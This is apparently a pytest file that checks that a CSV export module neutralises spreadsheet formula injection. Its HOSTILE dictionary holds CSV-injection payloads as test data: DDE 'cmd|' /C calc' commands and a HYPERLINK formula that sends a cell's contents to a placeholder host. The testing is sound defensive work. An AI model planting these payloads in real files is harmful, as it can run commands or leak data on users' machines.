"""CSV exports neutralise spreadsheet formulas in cells that come from documents (OWASP CSV injection:
a cell starting with = + - @ tab or CR gets a leading single quote); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from sitrep.export import export_clusters, to_string
from sitrep.model import ClusterRecord, ClusterSource, Event, Evidence

HOSTILE = {
    "actor1": "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
    "actor2": "+cmd|' /C calc'!A0",
    "location": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "-2+3+cmd|' /C calc'!A0",
    "claimed_by": "\t=1+1",
    "admin1": "\r=1+1",
    "notes": "=1+1 in the notes",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("fmt", ["csv", "acled"])
def test_export_csv_quotes_cells_that_a_spreadsheet_would_evaluate(events: list[Event], fmt: str) -> None:
    e = events[0].model_copy(update={**HOSTILE, "latitude": -34.5, "longitude": -70.25})
    row = _rows(to_string([e], fmt))[0]
    for field, value in HOSTILE.items():
        if field in row:
            assert row[field] == "'" + value, field
    for field, value in row.items():
        assert not value.startswith(FORMULA_START) or _is_number(value), (field, value)
    # numbers are untouched: negative coordinates stay readable numbers
    assert float(row["latitude"]) == -34.5 and float(row["longitude"]) == -70.25
    assert row["fatalities"] == "3"


def test_export_csv_leaves_plain_text_and_inner_signs_alone(events: list[Event]) -> None:
    e = events[0].model_copy(update={"actor1": "Group A = B", "notes": "a - b + c @ d"})
    row = _rows(to_string([e], "csv"))[0]
    assert row["actor1"] == "Group A = B" and row["notes"] == "a - b + c @ d"


def test_export_clusters_csv_quotes_formulas_in_sources_and_actors(events: list[Event]) -> None:
    ev = Evidence(start=0, end=3, text="abc")
    rec = ClusterRecord(
        cluster_id="c1", n_sources=1, actor1=HOSTILE["actor1"], location=HOSTILE["location"], latitude=-1.5,
        longitude=-2.5, sources=[ClusterSource(event_id="e1", doc_id="d1", source="=evil()", source_kind="report",
                                               evidence=ev)],
    )
    buf = io.StringIO()
    export_clusters([rec], "csv", buf)
    row = _rows(buf.getvalue())[0]
    assert row["actor1"] == "'" + HOSTILE["actor1"] and row["location"] == "'" + HOSTILE["location"]
    assert row["sources"].startswith("'=evil()")
    assert float(row["latitude"]) == -1.5


def _is_number(s: str) -> bool:
    try:
        float(s)
    except ValueError:
        return False
    return True


def test_export_csv_keeps_a_cell_with_a_bare_carriage_return_in_one_row(events: list[Event]) -> None:
    e = events[0].model_copy(update={"source": "Outlet\rName", "notes": "line one\nline two"})
    rows = _rows(to_string([e, events[1]], "csv"))
    assert len(rows) == 2
    assert rows[0]["source"] == "Outlet\rName" and rows[0]["notes"] == "line one\nline two"
